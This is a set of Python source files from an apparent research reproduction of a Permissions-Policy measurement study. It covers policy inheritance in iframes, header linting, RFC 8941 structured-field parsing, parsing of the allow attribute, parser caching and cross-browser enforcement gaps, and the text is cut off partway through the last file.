        if default is DefaultAllowlist.STAR:
            return PolicyDecision(feature, True, "default allowlist *",
                                  frame_origin.serialize())
        if origin.same_origin(frame_origin):
            return PolicyDecision(feature, True,
                                  "default allowlist self: same-origin",
                                  frame_origin.serialize())
        return PolicyDecision(feature, False,
                              "default allowlist self: cross-origin",
                              frame_origin.serialize())

    def _inherited(self, feature: str, frame: PolicyFrame) -> PolicyDecision:
        """Inherited policy of ``feature`` for ``frame`` (steps a–d of the
        module docstring)."""
        if frame.parent is None:
            return PolicyDecision(feature, True, "top-level",
                                  frame.effective_policy_origin().serialize())
        parent = frame.parent
        frame_origin = frame.effective_policy_origin()

        # (a) the parent itself must have the feature
        parent_enabled = self._enabled_in_document(
            feature, parent, parent.effective_policy_origin())
        if not parent_enabled.enabled:
            return PolicyDecision(feature, False,
                                  f"parent lacks feature ({parent_enabled.reason})",
                                  frame_origin.serialize())

        # (b) the parent's declared allowlist must admit the child origin
        declared = self._declared_policy(parent)
        if declared is not None:
            directives, self_origin = declared
            if feature in directives:
                allowlist = directives[feature]
                if not allowlist.allows(frame_origin, self_origin=self_origin):
                    return PolicyDecision(
                        feature, False,
                        "parent's declared allowlist excludes this origin",
                        frame_origin.serialize())

        # (c) an explicit `allow` entry decides
        if frame.allow is not None:
            entry = frame.allow.entry(feature)
            if entry is not None:
                allowed = entry.allowlist.allows(
                    frame_origin,
                    self_origin=parent.effective_policy_origin(),
                    src_origin=frame.src_origin,
                )
                if frame.is_local_scheme and entry.allowlist.src:
                    # `src` has no meaning without a src URL; Chromium treats
                    # a srcdoc/data child as matching its parent.
                    allowed = True
                reason = ("allow attribute delegates" if allowed
                          else "allow attribute excludes this origin")
                return PolicyDecision(feature, allowed, reason,
                                      frame_origin.serialize())

        # (d) no allow entry: the feature's default allowlist decides
        default = self._registry.get(feature).default_allowlist
        if default is DefaultAllowlist.STAR:
            return PolicyDecision(feature, True, "default allowlist *",
                                  frame_origin.serialize())
        if frame_origin.same_origin(parent.effective_policy_origin()):
            return PolicyDecision(feature, True,
                                  "default allowlist self: same-origin child",
                                  frame_origin.serialize())
        return PolicyDecision(feature, False,
                              "default allowlist self: cross-origin child "
                              "without delegation",
                              frame_origin.serialize())
