"""Misconfiguration detection for deployed ``Permissions-Policy`` headers.

Reproduces the paper's Section 4.3.3 taxonomy:

* **Syntax errors** that make the browser drop the whole header — 3,244
  frames (2 %) in the measurement.  The most common shape is using the old
  ``Feature-Policy`` grammar; misplaced/trailing commas come second.
* **Semantic misconfigurations** inside headers that parse — 6,408 websites:
  unrecognised tokens (``none``, ``0``), missing double quotes around URLs,
  contradictory directives (``self`` together with ``*``), and URL
  allowlists lacking ``self`` (not allowed per W3C issue #480).

The linter wraps the strict parser and turns both classes into uniform
:class:`LintFinding` records, which the analysis pipeline aggregates and the
developer tools print.
"""

from __future__ import annotations

from dataclasses import dataclass
from enum import Enum

from repro.policy.header import (
    DirectiveIssue,
    HeaderParseError,
    ParsedPolicyHeader,
    parse_permissions_policy_header,
)
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry


class LintSeverity(str, Enum):
    """How bad a finding is for the deployed policy."""

    FATAL = "fatal"        # whole header dropped by the browser
    ERROR = "error"        # directive ignored / meaningless
    WARNING = "warning"    # suspicious but functional


class LintRule(str, Enum):
    """Stable identifiers for every check the linter performs."""

    SYNTAX_ERROR = "syntax-error"
    FEATURE_POLICY_SYNTAX = "feature-policy-syntax"
    TRAILING_COMMA = "trailing-comma"
    UNRECOGNIZED_TOKEN = "unrecognized-token"
    UNQUOTED_URL = "unquoted-url"
    CONTRADICTORY_DIRECTIVE = "contradictory-directive"
    URL_WITHOUT_SELF = "url-without-self"
    UNKNOWN_FEATURE = "unknown-feature"
    INVALID_ORIGIN = "invalid-origin"
    DUPLICATE_FEATURE = "duplicate-feature"
    STAR_NO_EFFECT = "star-has-no-effect"

_ISSUE_TO_RULE: dict[DirectiveIssue, LintRule] = {
    DirectiveIssue.UNRECOGNIZED_TOKEN: LintRule.UNRECOGNIZED_TOKEN,
    DirectiveIssue.UNQUOTED_URL: LintRule.UNQUOTED_URL,
    DirectiveIssue.CONTRADICTORY: LintRule.CONTRADICTORY_DIRECTIVE,
    DirectiveIssue.URL_WITHOUT_SELF: LintRule.URL_WITHOUT_SELF,
    DirectiveIssue.UNKNOWN_FEATURE: LintRule.UNKNOWN_FEATURE,
    DirectiveIssue.INVALID_ORIGIN: LintRule.INVALID_ORIGIN,
    DirectiveIssue.DUPLICATE_FEATURE: LintRule.DUPLICATE_FEATURE,
}

_ISSUE_SEVERITY: dict[LintRule, LintSeverity] = {
    LintRule.SYNTAX_ERROR: LintSeverity.FATAL,
    LintRule.FEATURE_POLICY_SYNTAX: LintSeverity.FATAL,
    LintRule.TRAILING_COMMA: LintSeverity.FATAL,
    LintRule.UNRECOGNIZED_TOKEN: LintSeverity.ERROR,
    LintRule.UNQUOTED_URL: LintSeverity.ERROR,
    LintRule.CONTRADICTORY_DIRECTIVE: LintSeverity.ERROR,
    LintRule.URL_WITHOUT_SELF: LintSeverity.ERROR,
    LintRule.UNKNOWN_FEATURE: LintSeverity.WARNING,
    LintRule.INVALID_ORIGIN: LintSeverity.ERROR,
    LintRule.DUPLICATE_FEATURE: LintSeverity.WARNING,
    LintRule.STAR_NO_EFFECT: LintSeverity.WARNING,
}


@dataclass(frozen=True)
class LintFinding:
    """One misconfiguration found in a header value."""

    rule: LintRule
    severity: LintSeverity
    message: str
    feature: str = ""

    @property
    def is_fatal(self) -> bool:
        return self.severity is LintSeverity.FATAL


@dataclass
class LintReport:
    """All findings for one header, plus the parse if it survived."""

    raw: str
    findings: list[LintFinding]
    parsed: ParsedPolicyHeader | None

    @property
    def header_dropped(self) -> bool:
        """Whether the browser discards the entire header."""
        return self.parsed is None

    @property
    def has_semantic_issues(self) -> bool:
        return any(not finding.is_fatal for finding in self.findings)

    def findings_by_rule(self, rule: LintRule) -> list[LintFinding]:
        return [finding for finding in self.findings if finding.rule is rule]


class HeaderLinter:
    """Lints ``Permissions-Policy`` header values.

    Args:
        registry: Used to flag unknown feature names; pass ``None`` to skip
            that check (e.g. when auditing bleeding-edge features).
    """

    def __init__(self, registry: PermissionRegistry | None = DEFAULT_REGISTRY
                 ) -> None:
        self._known = (frozenset(p.name for p in registry)
                       if registry is not None else None)

    def lint(self, raw: str) -> LintReport:
        """Lint one header value, never raising."""
        try:
            parsed = parse_permissions_policy_header(raw, self._known)
        except HeaderParseError as exc:
            return LintReport(raw=raw, parsed=None,
                              findings=[self._fatal_finding(raw, exc)])
        findings = [
            LintFinding(
                rule=_ISSUE_TO_RULE[diag.issue],
                severity=_ISSUE_SEVERITY[_ISSUE_TO_RULE[diag.issue]],
                message=(f"{diag.issue.value} in directive "
                         f"{diag.feature!r}: {diag.detail}".rstrip(": ")),
                feature=diag.feature,
            )
            for diag in parsed.diagnostics
        ]
        findings.extend(self._star_no_effect(parsed))
        return LintReport(raw=raw, parsed=parsed, findings=findings)

    def _fatal_finding(self, raw: str, exc: HeaderParseError) -> LintFinding:
        message = str(exc)
        if "Feature-Policy syntax" in message:
            rule = LintRule.FEATURE_POLICY_SYNTAX
        elif raw.rstrip().endswith(",") or "trailing comma" in message:
            rule = LintRule.TRAILING_COMMA
        else:
            rule = LintRule.SYNTAX_ERROR
        return LintFinding(rule=rule, severity=LintSeverity.FATAL,
                           message=f"header dropped by browser: {message}")

    @staticmethod
    def _star_no_effect(parsed: ParsedPolicyHeader) -> list[LintFinding]:
        """``feature=*`` in a header cannot grant anything beyond the default
        allowlist — the header only restricts (paper Section 4.3.1 finds
        6.02 % of deploying sites doing this)."""
        out = []
        for feature, allowlist in parsed.directives.items():
            if allowlist.star:
                out.append(LintFinding(
                    rule=LintRule.STAR_NO_EFFECT,
                    severity=LintSeverity.WARNING,
                    message=(f"directive {feature}=* has no effect: the header "
                             "can only restrict, never broaden, access"),
                    feature=feature,
                ))
        return out
