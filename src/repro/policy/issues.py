"""Parse-issue records for the lenient policy parsers.

The real web sends the parsers garbage — NUL bytes, megabyte headers,
unbalanced quotes, unicode confusables — and a million-site crawl cannot
afford a single raised exception in the parse layer.  Each parser
therefore offers two modes:

* **strict** (the default, unchanged behaviour): structured-field syntax
  errors raise :class:`~repro.policy.header.HeaderParseError`, which is
  what the linter and the browser-drop accounting need;
* **lenient**: nothing ever raises; whatever went wrong is recorded as a
  :class:`ParseIssue` on the returned (possibly empty) result, so hostile
  input degrades into counted diagnostics instead of a crashed pipeline.

:class:`ParseIssue` is deliberately minimal — a stable ``kind`` tag for
aggregation plus free-form detail — and shared by all three grammars
(``Permissions-Policy``, legacy ``Feature-Policy``, the iframe ``allow``
attribute).
"""

from __future__ import annotations

from dataclasses import dataclass

#: Stable ``kind`` tags (aggregations key on these, so treat as API).
HEADER_DROPPED = "header-dropped"
PARSER_ERROR = "parser-error"
INVALID_TOKEN = "invalid-token"


@dataclass(frozen=True)
class ParseIssue:
    """One problem a lenient parse survived.

    Attributes:
        kind: Stable tag naming the issue class (``header-dropped``,
            ``parser-error``, ``invalid-token``).
        detail: Free-form context — the offending token, the original
            exception message — truncated by the producer, never trusted
            to be small.
        feature: The feature directive the issue occurred in, when the
            grammar got far enough to know it.
    """

    kind: str
    detail: str = ""
    feature: str = ""


def clip_detail(text: str, limit: int = 200) -> str:
    """Clip issue detail so a megabyte header cannot ride along inside
    its own diagnostic."""
    if len(text) <= limit:
        return text
    return text[:limit] + f"... ({len(text)} chars)"
