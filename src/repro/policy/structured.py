"""RFC 8941 structured-field parsing (the subset Permissions-Policy needs).

The ``Permissions-Policy`` header is defined as a *Structured Field
Dictionary*: members are keys mapping either to an item (e.g. ``*``) or to an
inner list of items (e.g. ``(self "https://a.com")``).  RFC 8941 mandates
that any parse failure makes the entire field fail — which is exactly why
the paper observes that a single syntax error removes the whole header and
leaves a website with no policy at all (Section 4.3.3).

Implemented here: dictionaries, inner lists, items (tokens, strings,
integers, decimals, booleans) and parameters.  Byte sequences and dates are
not used by the Permissions-Policy grammar and are rejected.

The parser is intentionally strict: it mirrors the "fail the whole field"
behaviour so the linter can reproduce the browser's error taxonomy.
"""

from __future__ import annotations

import string
from dataclasses import dataclass, field
from typing import Union


class StructuredFieldError(ValueError):
    """A structured field failed to parse; the whole field must be ignored."""

    def __init__(self, message: str, position: int) -> None:
        super().__init__(f"{message} (at offset {position})")
        self.message = message
        self.position = position


@dataclass(frozen=True)
class Token:
    """An sf-token, e.g. ``self`` or ``*``."""

    value: str

    def __str__(self) -> str:
        return self.value


BareItem = Union[Token, str, int, float, bool]
Parameters = dict[str, BareItem]


@dataclass(frozen=True)
class Item:
    """An sf-item: a bare item plus parameters."""

    value: BareItem
    params: Parameters = field(default_factory=dict)


@dataclass(frozen=True)
class InnerList:
    """An sf-inner-list: parenthesised items plus parameters."""

    items: tuple[Item, ...]
    params: Parameters = field(default_factory=dict)


DictMember = Union[Item, InnerList]

_KEY_START = set(string.ascii_lowercase + "*")
_KEY_CHARS = set(string.ascii_lowercase + string.digits + "_-.*")
_TOKEN_START = set(string.ascii_letters + "*")
_TOKEN_CHARS = set(string.ascii_letters + string.digits + "!#$%&'*+-.^_`|~:/")
_DIGITS = set(string.digits)


class _Parser:
    """Single-pass recursive-descent parser over one header value."""

    def __init__(self, text: str) -> None:
        self.text = text
        self.pos = 0

    # -- low-level helpers ---------------------------------------------------

    def fail(self, message: str) -> StructuredFieldError:
        return StructuredFieldError(message, self.pos)

    @property
    def eof(self) -> bool:
        return self.pos >= len(self.text)

    def peek(self) -> str:
        return "" if self.eof else self.text[self.pos]

    def skip_sp(self) -> None:
        while not self.eof and self.text[self.pos] == " ":
            self.pos += 1

    def skip_ows(self) -> None:
        while not self.eof and self.text[self.pos] in " \t":
            self.pos += 1

    # -- grammar ----------------------------------------------------------------

    def parse_dictionary(self) -> list[tuple[str, DictMember]]:
        members: list[tuple[str, DictMember]] = []
        self.skip_sp()
        if self.eof:
            return members
        while True:
            key = self.parse_key()
            if self.peek() == "=":
                self.pos += 1
                members.append((key, self.parse_member()))
            else:
                # bare key == boolean true item, with optional parameters
                members.append((key, Item(True, self.parse_parameters())))
            self.skip_ows()
            if self.eof:
                return members
            if self.peek() != ",":
                raise self.fail("expected ',' between dictionary members")
            self.pos += 1
            self.skip_ows()
            if self.eof:
                raise self.fail("trailing comma in dictionary")

    def parse_member(self) -> DictMember:
        if self.peek() == "(":
            return self.parse_inner_list()
        return self.parse_item()

    def parse_inner_list(self) -> InnerList:
        if self.peek() != "(":
            raise self.fail("expected '(' to open inner list")
        self.pos += 1
        items: list[Item] = []
        while True:
            self.skip_sp()
            if self.eof:
                raise self.fail("unterminated inner list")
            if self.peek() == ")":
                self.pos += 1
                return InnerList(tuple(items), self.parse_parameters())
            items.append(self.parse_item())
            if not self.eof and self.peek() not in " )":
                raise self.fail("inner list items must be space-separated")

    def parse_item(self) -> Item:
        bare = self.parse_bare_item()
        return Item(bare, self.parse_parameters())

    def parse_parameters(self) -> Parameters:
        params: Parameters = {}
        while self.peek() == ";":
            self.pos += 1
            self.skip_sp()
            key = self.parse_key()
            value: BareItem = True
            if self.peek() == "=":
                self.pos += 1
                value = self.parse_bare_item()
            params[key] = value
        return params

    def parse_key(self) -> str:
        if self.peek() not in _KEY_START:
            raise self.fail(f"invalid key start {self.peek()!r}")
        start = self.pos
        while not self.eof and self.text[self.pos] in _KEY_CHARS:
            self.pos += 1
        return self.text[start:self.pos]

    def parse_bare_item(self) -> BareItem:
        ch = self.peek()
        if ch == '"':
            return self.parse_string()
        if ch == "?":
            return self.parse_boolean()
        if ch == ":":
            raise self.fail("byte sequences are not valid in Permissions-Policy")
        if ch == "@":
            raise self.fail("dates are not valid in Permissions-Policy")
        if ch in _DIGITS or ch == "-":
            return self.parse_number()
        if ch in _TOKEN_START:
            return self.parse_token()
        raise self.fail(f"cannot parse bare item starting with {ch!r}")

    def parse_string(self) -> str:
        assert self.peek() == '"'
        self.pos += 1
        out: list[str] = []
        while True:
            if self.eof:
                raise self.fail("unterminated string")
            ch = self.text[self.pos]
            self.pos += 1
            if ch == '"':
                return "".join(out)
            if ch == "\\":
                if self.eof:
                    raise self.fail("dangling escape in string")
                nxt = self.text[self.pos]
                self.pos += 1
                if nxt not in '"\\':
                    raise self.fail(f"invalid escape '\\{nxt}' in string")
                out.append(nxt)
            elif 0x20 <= ord(ch) <= 0x7E:
                out.append(ch)
            else:
                raise self.fail(f"invalid character {ch!r} in string")

    def parse_token(self) -> Token:
        start = self.pos
        self.pos += 1
        while not self.eof and self.text[self.pos] in _TOKEN_CHARS:
            self.pos += 1
        return Token(self.text[start:self.pos])

    def parse_boolean(self) -> bool:
        assert self.peek() == "?"
        self.pos += 1
        ch = self.peek()
        self.pos += 1
        if ch == "1":
            return True
        if ch == "0":
            return False
        raise self.fail("boolean must be ?0 or ?1")

    def parse_number(self) -> int | float:
        start = self.pos
        if self.peek() == "-":
            self.pos += 1
        digits = 0
        while not self.eof and self.text[self.pos] in _DIGITS:
            self.pos += 1
            digits += 1
        if digits == 0:
            raise self.fail("number without digits")
        if digits > 15:
            raise self.fail("integer too long")
        if not self.eof and self.text[self.pos] == ".":
            self.pos += 1
            frac = 0
            while not self.eof and self.text[self.pos] in _DIGITS:
                self.pos += 1
                frac += 1
            if frac == 0 or frac > 3 or digits > 12:
                raise self.fail("invalid decimal")
            return float(self.text[start:self.pos])
        return int(self.text[start:self.pos])


def parse_dictionary_items(text: str) -> list[tuple[str, DictMember]]:
    """Parse a structured-field dictionary, preserving duplicate keys in
    order of appearance (callers that need RFC semantics — last occurrence
    wins — use :func:`parse_dictionary`).

    Raises:
        StructuredFieldError: on any syntax error; per RFC 8941 the whole
            field must then be ignored.
    """
    parser = _Parser(text)
    members = parser.parse_dictionary()
    parser.skip_sp()
    if not parser.eof:
        raise parser.fail("trailing characters after dictionary")
    return members


def parse_dictionary(text: str) -> dict[str, DictMember]:
    """Parse a structured-field dictionary into a mapping (RFC 8941
    semantics: a repeated key keeps its last value).

    Raises:
        StructuredFieldError: on any syntax error; per RFC 8941 the whole
            field must then be ignored.
    """
    return dict(parse_dictionary_items(text))


def serialize_bare_item(item: BareItem) -> str:
    """Serialize a bare item back to header text."""
    if isinstance(item, bool):
        return "?1" if item else "?0"
    if isinstance(item, Token):
        return item.value
    if isinstance(item, str):
        escaped = item.replace("\\", "\\\\").replace('"', '\\"')
        return f'"{escaped}"'
    if isinstance(item, float):
        return f"{item:.3f}".rstrip("0").rstrip(".")
    return str(item)
