"""The iframe ``allow`` attribute.

The ``allow`` attribute delegates (or restricts) permissions on an embedded
document (paper Section 2.2.2)::

    <iframe src="https://widget.example/chat"
            allow="camera; microphone *; geolocation 'self' https://a.com">

Each semicolon-separated directive names a feature and an optional
allowlist.  When the allowlist is omitted it defaults to the ``src``
keyword — the origin the ``src`` attribute points at — which is what the
paper finds in 82.12 % of observed delegations (Section 4.2.2).

This module parses the attribute and classifies every delegation by the
directive kind the paper's Section 4.2.2 distribution uses.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.policy.allowlist import Allowlist
from repro.policy.feature_policy import SerializedDirective, parse_serialized_policy
from repro.policy.issues import (
    INVALID_TOKEN,
    PARSER_ERROR,
    ParseIssue,
    clip_detail,
)
from repro.policy.memo import interned


class DelegationDirectiveKind(str, Enum):
    """How a delegation's allowlist was written (paper Section 4.2.2)."""

    DEFAULT_SRC = "default-src"      # no member tokens; defaults to 'src'
    STAR = "star"                    # explicit *
    EXPLICIT_SRC = "explicit-src"    # explicit 'src' keyword
    NONE = "none"                    # explicit 'none' (opt-out)
    SELF = "self"                    # explicit 'self'
    ORIGIN = "origin"                # one or more explicit origins
    MIXED = "mixed"                  # combination of the above


@dataclass(frozen=True)
class AllowEntry:
    """One feature delegation inside an ``allow`` attribute."""

    feature: str
    allowlist: Allowlist
    kind: DelegationDirectiveKind
    explicit: bool

    @property
    def is_opt_out(self) -> bool:
        """True for ``feature 'none'`` — the author opted out of delegation."""
        return self.kind is DelegationDirectiveKind.NONE


@dataclass
class AllowAttribute:
    """A parsed ``allow`` attribute: ordered feature delegations."""

    raw: str
    entries: dict[str, AllowEntry] = field(default_factory=dict)
    #: Lenient-mode only: issues the parse survived.  Empty for strict
    #: parses (which drop malformed member tokens silently, like browsers).
    issues: tuple[ParseIssue, ...] = ()

    @property
    def features(self) -> tuple[str, ...]:
        return tuple(self.entries)

    @property
    def delegated_features(self) -> tuple[str, ...]:
        """Features actually delegated (i.e. excluding ``'none'`` opt-outs)."""
        return tuple(name for name, entry in self.entries.items()
                     if not entry.is_opt_out)

    def entry(self, feature: str) -> AllowEntry | None:
        return self.entries.get(feature)

    def allowlist_for(self, feature: str) -> Allowlist | None:
        entry = self.entries.get(feature)
        return entry.allowlist if entry else None

    def __bool__(self) -> bool:
        return bool(self.entries)


def _classify(directive: SerializedDirective, allowlist: Allowlist
              ) -> DelegationDirectiveKind:
    if not directive.is_explicit:
        return DelegationDirectiveKind.DEFAULT_SRC
    if allowlist.is_empty and not allowlist.invalid_tokens:
        return DelegationDirectiveKind.NONE
    flags = [allowlist.star, allowlist.src, allowlist.self_, bool(allowlist.origins)]
    if sum(flags) > 1:
        return DelegationDirectiveKind.MIXED
    if allowlist.star:
        return DelegationDirectiveKind.STAR
    if allowlist.src:
        return DelegationDirectiveKind.EXPLICIT_SRC
    if allowlist.self_:
        return DelegationDirectiveKind.SELF
    if allowlist.origins:
        return DelegationDirectiveKind.ORIGIN
    return DelegationDirectiveKind.NONE


def parse_allow_attribute(raw: str, *, mode: str = "strict"
                          ) -> AllowAttribute:
    """Parse an iframe ``allow`` attribute value.

    Directives without member tokens default to the ``src`` keyword.  Like
    browsers, the parser is forgiving either way: malformed member tokens
    are dropped, repeated features merge their allowlists.  ``mode=
    "lenient"`` additionally guarantees no exception ever escapes (a
    parser crash on hostile input degrades to an empty attribute) and
    records dropped tokens as :class:`~repro.policy.issues.ParseIssue`\\ s.

    Results are interned by raw string (the parse is pure); treat the
    returned :class:`AllowAttribute` as read-only.
    """
    if mode == "strict":
        return _parse_allow_attribute_cached(raw)
    if mode != "lenient":
        raise ValueError(f"mode must be 'strict' or 'lenient', got {mode!r}")
    try:
        parsed = _parse_allow_attribute_cached(raw)
    except Exception as exc:
        return AllowAttribute(
            raw=raw,
            issues=(ParseIssue(
                PARSER_ERROR,
                clip_detail(f"{type(exc).__name__}: {exc}")),))
    issues = tuple(
        ParseIssue(INVALID_TOKEN, clip_detail(token), feature=entry.feature)
        for entry in parsed.entries.values()
        for token in entry.allowlist.invalid_tokens)
    if not issues:
        return parsed
    # Fresh result: the interned strict object must stay issue-free.
    return AllowAttribute(raw=raw, entries=dict(parsed.entries),
                          issues=issues)


@interned
def _parse_allow_attribute_cached(raw: str) -> AllowAttribute:
    attribute = AllowAttribute(raw=raw)
    for directive in parse_serialized_policy(raw):
        allowlist = directive.allowlist
        if allowlist is None:
            allowlist = Allowlist.src_only()
        kind = _classify(directive, allowlist)
        previous = attribute.entries.get(directive.feature)
        if previous is not None:
            allowlist = previous.allowlist.merged(allowlist)
            kind = (previous.kind if previous.kind == kind
                    else DelegationDirectiveKind.MIXED)
            explicit = previous.explicit or directive.is_explicit
        else:
            explicit = directive.is_explicit
        attribute.entries[directive.feature] = AllowEntry(
            feature=directive.feature,
            allowlist=allowlist,
            kind=kind,
            explicit=explicit,
        )
    return attribute


# The public function mirrors the interned wrapper's cache surface so
# callers (and tests) can keep poking `parse_allow_attribute.cache`.
parse_allow_attribute.cache = _parse_allow_attribute_cached.cache
parse_allow_attribute.cache_clear = _parse_allow_attribute_cached.cache_clear


def serialize_allow_attribute(entries: dict[str, Allowlist]) -> str:
    """Serialize feature → allowlist pairs into ``allow`` attribute text
    (used by the recommender tool when proposing least-privilege
    delegations)."""
    chunks: list[str] = []
    for feature, allowlist in entries.items():
        if allowlist.src and not (allowlist.star or allowlist.self_
                                  or allowlist.origins):
            chunks.append(feature)
            continue
        tokens: list[str] = []
        if allowlist.star:
            tokens.append("*")
        if allowlist.self_:
            tokens.append("'self'")
        if allowlist.src:
            tokens.append("'src'")
        tokens.extend(origin.serialize() for origin in allowlist.origins)
        if not tokens:
            tokens.append("'none'")
        chunks.append(f"{feature} {' '.join(tokens)}")
    return "; ".join(chunks)
