"""String-interned memoization for the pure policy parsers.

The crawl produces heavily duplicated raw strings: thousands of frames
share a handful of distinct ``allow`` attributes, ``Permissions-Policy``
headers and script sources.  Every parser decorated here is a pure
function of its (hashable) arguments, and nothing in the repository
mutates a parsed result after the fact — so returning the *same* object
for a repeated raw string is observably identical to re-parsing it, minus
the redundant work.

Safety argument (see DESIGN.md "Analysis engine"):

* **Purity** — ``parse_allow_attribute``, ``parse_permissions_policy_header``
  and ``parse_feature_policy_header`` read nothing but their arguments and
  global constants; two calls with the same raw string produce equal
  results.
* **Effective immutability** — consumers only read the returned
  ``AllowAttribute`` / ``ParsedPolicyHeader`` / ``ParsedFeaturePolicyHeader``
  objects (enforced by convention and exercised by the differential tests
  in ``tests/test_analysis_index.py``).
* **Exceptions are never cached** — a parse that raises (e.g.
  :class:`~repro.policy.header.HeaderParseError`) re-raises freshly on
  every call, exactly like the uncached function.
* **Thread safety** — the cache is a plain dict; CPython dict reads and
  single-key writes are atomic, so concurrent callers at worst duplicate a
  pure computation and store an equal value.

Caches are unbounded: the key population is the set of distinct raw
strings in a crawl, which grows far slower than the crawl itself (raw
strings are templated).  :func:`clear_parser_caches` resets everything —
benchmarks use it to measure cold-parse cost, and
:func:`parser_caches_disabled` turns interning off entirely so the legacy
(pre-index) pipeline can be timed faithfully.
"""

from __future__ import annotations

import functools
from contextlib import contextmanager
from typing import Callable, Iterator, TypeVar

from repro.obs import metrics as _metrics

_F = TypeVar("_F", bound=Callable)

#: All wrappers created by :func:`interned`, for global cache clearing.
_REGISTRY: list = []

#: Nesting depth of :func:`parser_caches_disabled` contexts.
_disabled = 0


def interned(fn: _F) -> _F:
    """Memoize a pure parser by its (hashable) positional arguments."""
    cache: dict = {}
    # Metric handles are created once here; MetricsRegistry.reset() keeps
    # the objects alive, so these never go stale.  Recording is gated on
    # the module-global COUNTING flag (off by default, near-free).
    hits = _metrics.REGISTRY.counter(f"policy.parser_hits.{fn.__name__}")
    misses = _metrics.REGISTRY.counter(f"policy.parser_misses.{fn.__name__}")

    @functools.wraps(fn)
    def wrapper(*args):
        if _disabled:
            return fn(*args)
        try:
            result = cache[args]
        except KeyError:
            result = fn(*args)
            cache[args] = result
            if _metrics.COUNTING:
                misses.inc()
            return result
        if _metrics.COUNTING:
            hits.inc()
        return result

    wrapper.cache = cache
    wrapper.cache_clear = cache.clear
    _REGISTRY.append(wrapper)
    return wrapper  # type: ignore[return-value]


def clear_parser_caches() -> None:
    """Drop every interned parse result (cold-start for benchmarks)."""
    for wrapper in _REGISTRY:
        wrapper.cache_clear()


@contextmanager
def parser_caches_disabled() -> Iterator[None]:
    """Bypass interning entirely inside the context (and leave existing
    cache contents untouched).  Used to time the uncached legacy path."""
    global _disabled
    _disabled += 1
    try:
        yield
    finally:
        _disabled -= 1
