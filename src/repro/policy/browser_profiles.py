"""Per-browser policy enforcement profiles (paper Section 2.2.6).

"The specification is inconsistently supported across browsers.  All major
browsers partly support the allow attribute, but only Chromium-based
browsers support the Permissions-Policy header."  A site that deploys
``Permissions-Policy: camera=()`` therefore protects its Chromium visitors
while Firefox and Safari users keep the default allowlists — an
enforcement gap this module makes computable:

* :class:`BrowserPolicyProfile` describes what one browser enforces;
* :func:`engine_for_browser` builds a policy engine behaving like that
  browser (headers stripped where unenforced);
* :class:`CrossBrowserDivergence` evaluates a frame across all profiles
  and reports where outcomes differ.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Iterable

from repro.policy.engine import PermissionsPolicyEngine, PolicyFrame
from repro.registry.browsers import ALL_BROWSERS, Browser, CHROMIUM
from repro.registry.features import DEFAULT_REGISTRY, PermissionRegistry
from repro.registry.support import SupportMatrix, default_support_matrix


@dataclass(frozen=True)
class BrowserPolicyProfile:
    """What one browser actually enforces of the permission system."""

    browser: Browser
    enforces_pp_header: bool
    enforces_fp_header: bool
    enforces_allow_attribute: bool

    @classmethod
    def for_browser(cls, browser: Browser) -> "BrowserPolicyProfile":
        return cls(
            browser=browser,
            enforces_pp_header=browser.supports_permissions_policy_header,
            enforces_fp_header=browser.supports_feature_policy_header,
            enforces_allow_attribute=browser.supports_allow_attribute,
        )


def strip_unenforced(frame: PolicyFrame,
                     profile: BrowserPolicyProfile) -> PolicyFrame:
    """A copy of the frame tree as ``profile``'s browser sees it: headers
    and ``allow`` attributes the browser does not enforce are dropped."""
    parent = (strip_unenforced(frame.parent, profile)
              if frame.parent is not None else None)
    return replace(
        frame,
        parent=parent,
        header=frame.header if profile.enforces_pp_header else None,
        fp_header=frame.fp_header if profile.enforces_fp_header else None,
        allow=frame.allow if profile.enforces_allow_attribute else None,
    )


def engine_for_browser(browser: Browser, *,
                       registry: PermissionRegistry | None = None,
                       local_scheme_bug: bool = True
                       ) -> "BrowserPolicyEngine":
    """A policy engine behaving like ``browser``."""
    return BrowserPolicyEngine(
        BrowserPolicyProfile.for_browser(browser),
        registry=registry, local_scheme_bug=local_scheme_bug)


class BrowserPolicyEngine:
    """A :class:`PermissionsPolicyEngine` filtered through a browser's
    actual enforcement behaviour."""

    def __init__(self, profile: BrowserPolicyProfile, *,
                 registry: PermissionRegistry | None = None,
                 local_scheme_bug: bool = True) -> None:
        self.profile = profile
        self._engine = PermissionsPolicyEngine(
            registry, local_scheme_bug=local_scheme_bug)

    def is_enabled(self, feature: str, frame: PolicyFrame) -> bool:
        return self._engine.is_enabled(
            feature, strip_unenforced(frame, self.profile))

    def allowed_features(self, frame: PolicyFrame) -> tuple[str, ...]:
        return self._engine.allowed_features(
            strip_unenforced(frame, self.profile))


@dataclass(frozen=True)
class DivergenceFinding:
    """One feature whose outcome differs across browsers for a frame."""

    feature: str
    outcomes: dict[str, bool]          # browser name -> enabled

    @property
    def browsers_enabled(self) -> tuple[str, ...]:
        return tuple(sorted(name for name, enabled in self.outcomes.items()
                            if enabled))

    @property
    def protects_only_chromium(self) -> bool:
        """The header disables the feature in Chromium but non-enforcing
        browsers still expose it — the enforcement gap of Section 2.2.6."""
        return (not self.outcomes.get(CHROMIUM.name, True)
                and any(enabled for name, enabled in self.outcomes.items()
                        if name != CHROMIUM.name))


class CrossBrowserDivergence:
    """Evaluates frames across all browser profiles."""

    def __init__(self, *, browsers: Iterable[Browser] = ALL_BROWSERS,
                 registry: PermissionRegistry | None = None,
                 matrix: SupportMatrix | None = None) -> None:
        self._registry = registry if registry is not None else DEFAULT_REGISTRY
        self._matrix = matrix if matrix is not None else default_support_matrix()
        self._engines = {browser.name: engine_for_browser(browser,
                                                          registry=registry)
                         for browser in browsers}
        self._browsers = {browser.name: browser for browser in browsers}

    def divergences(self, frame: PolicyFrame,
                    features: Iterable[str] | None = None
                    ) -> list[DivergenceFinding]:
        """Features whose availability in ``frame`` differs by browser.

        Only features a browser actually supports count for it — an
        unsupported feature is unusable everywhere regardless of policy.
        """
        names = (tuple(features) if features is not None
                 else tuple(p.name for p in self._registry.policy_controlled()))
        findings = []
        for feature in names:
            outcomes: dict[str, bool] = {}
            for browser_name, engine in self._engines.items():
                browser = self._browsers[browser_name]
                supported = self._matrix.currently_supported(feature, browser)
                outcomes[browser_name] = (supported
                                          and engine.is_enabled(feature, frame))
            if len(set(outcomes.values())) > 1:
                findings.append(DivergenceFinding(feature, outcomes))
        return findings

    def enforcement_gaps(self, frame: PolicyFrame) -> list[DivergenceFinding]:
        """Features the deployed policy turns off for Chromium users only."""
        return [finding for finding in self.divergences(frame)
